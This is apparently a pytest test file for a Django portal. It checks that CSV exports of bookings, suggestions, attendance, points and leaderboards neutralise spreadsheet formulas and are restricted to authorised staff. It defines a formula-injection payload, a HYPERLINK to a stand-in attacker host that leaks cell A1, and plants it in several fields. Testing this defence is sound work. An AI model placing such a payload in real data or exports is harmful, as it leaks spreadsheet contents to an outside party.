"""Every CSV export neutralises cells a spreadsheet would run as a formula, and only staff get one."""
import csv
import io
from datetime import timedelta

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse
from django.utils import timezone

from points.models import LedgerEntry, MemberResult, Period, Stage, TeamRating
from portal.exports import csv_cell
from tests.factories import ActivityFactory, BookingFactory, PeriodFactory, SuggestionFactory, UserFactory
from volunteers.models import Attendance

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _assert_neutralised(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + ATTACK in cells  # the text is kept, shown as text
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\r=1", "-", "=", ATTACK])
def test_it_neutralises_every_risky_start(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 3, 2.5, "-5", "-2.50", "12", "林小创", "a=b", "", "2026-01-01"])
def test_it_leaves_numbers_and_plain_text_alone(value):
    assert csv_cell(value) == value


def test_the_booking_day_export_is_neutralised(client_as, hall_staff):
    booking = BookingFactory(note=ATTACK, slot__starts_at=timezone.now() + timedelta(days=1))
    booking.user.display_name = "+86 呼叫"
    booking.user.save()
    day = timezone.localtime(booking.slot.starts_at).date()
    rows = _rows(client_as(hall_staff).get(f"/admin/services/booking/export-day/?date={day}"))
    _assert_neutralised(rows)
    assert "'+86 呼叫" in rows[1]


def test_the_golden_ideas_ledger_export_is_neutralised(client_as, hall_staff):
    entry = SuggestionFactory(title=ATTACK)
    rows = _rows(client_as(hall_staff).post(
        reverse("admin:suggestions_suggestion_changelist"),
        {"action": "export_csv", ACTION_CHECKBOX_NAME: [entry.pk]},
    ))
    _assert_neutralised(rows)


def test_the_attendance_export_is_neutralised(client_as, hall_staff, team, entrepreneur):
    activity = ActivityFactory(team=team, title=ATTACK)
    Attendance.objects.create(activity=activity, user=entrepreneur, proposed_hours=2, approved_hours=2)
    rows = _rows(client_as(hall_staff).post(
        "/admin/volunteers/activity/", {"action": "export_attendance_csv", ACTION_CHECKBOX_NAME: [activity.pk]}
    ))
    _assert_neutralised(rows)


# --- the points ledger ------------------------------------------------------------------------
def test_staff_export_the_points_ledger_with_numbers_kept(client_as, hall_staff, member):
    award = LedgerEntry.objects.create(member=member, points=12, reason=ATTACK, source=LedgerEntry.Source.ACHIEVEMENT)
    fix = LedgerEntry.objects.create(member=member, points=-5, reason="-5 corrected", source=LedgerEntry.Source.CORRECTION,
                                     corrects=award, author=hall_staff)
    rows = _rows(client_as(hall_staff).post(
        reverse("admin:points_ledgerentry_changelist"),
        {"action": "export_csv", ACTION_CHECKBOX_NAME: [award.pk, fix.pk]},
    ))
    _assert_neutralised(rows)
    assert len(rows) == 3
    assert rows[1][2] == member.username and rows[1][3] == "12"
    assert rows[2][3] == "-5" and rows[2][5] == "'-5 corrected" and rows[2][10] == str(award.pk)


def test_the_points_ledger_admin_is_closed_to_others(client_as, member):
    LedgerEntry.objects.create(member=member, points=12, reason="x", source=LedgerEntry.Source.ACHIEVEMENT)
    response = client_as(member).post(reverse("admin:points_ledgerentry_changelist"),
                                      {"action": "export_csv", ACTION_CHECKBOX_NAME: [1]})
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_a_staff_user_without_the_ledger_permission_gets_403(client_as):
    officer_like = UserFactory(username="clerk", is_staff=True, roles=[])
    response = client_as(officer_like).post(reverse("admin:points_ledgerentry_changelist"),
                                            {"action": "export_csv", ACTION_CHECKBOX_NAME: [1]})
    assert response.status_code == 403


# --- the leaderboard --------------------------------------------------------------------------
@pytest.fixture
def published(team, member):
    period = PeriodFactory()
    Period.objects.filter(pk=period.pk).update(stage=Stage.PUBLISHED, published_at=timezone.now())
    member.display_name = ATTACK
    member.save()
    MemberResult.objects.create(period=period, team=team, member=member, total=92, stars=5, is_good_youth=True)
    TeamRating.objects.create(period=period, team=team, average=92, stars=5, is_pioneer_post=True)
    return period


def test_staff_export_the_leaderboard(client_as, hall_staff, published, member, team):
    client = client_as(hall_staff)
    page = client.get(reverse("points:leaderboard"), HTTP_ACCEPT_LANGUAGE="en")
    assert "Download this leaderboard (CSV)" in page.content.decode()
    rows = _rows(client.get(reverse("points:leaderboard_csv"), {"period": published.pk}, HTTP_ACCEPT_LANGUAGE="en"))
    _assert_neutralised(rows)
    assert rows[0][:5] == ["Rank", "Member", "Username", "Team", "Score"]
    assert rows[1][:6] == ["1", "'" + ATTACK, member.username, team.name, "92", "5"]
    assert rows[1][7:] == ["92.00", "5", "yes"]


def test_the_leaderboard_export_refuses_everyone_but_hall_staff(client, client_as, published, member, reviewer):
    url = reverse("points:leaderboard_csv")
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and reverse("accounts:login") in anonymous["Location"]
    for person in (member, reviewer):
        response = client_as(person).get(url)
        assert response.status_code == 403
        assert not response["Content-Type"].startswith("text/csv")
    assert "Download this leaderboard" not in client_as(member).get(reverse("points:leaderboard")).content.decode()


def test_the_leaderboard_export_answers_400_and_404_for_a_bad_period(client_as, hall_staff, published):
    client = client_as(hall_staff)
    assert client.get(reverse("points:leaderboard_csv"), {"period": "abc"}).status_code == 400
    assert client.get(reverse("points:leaderboard_csv"), {"period": published.pk + 99}).status_code == 404
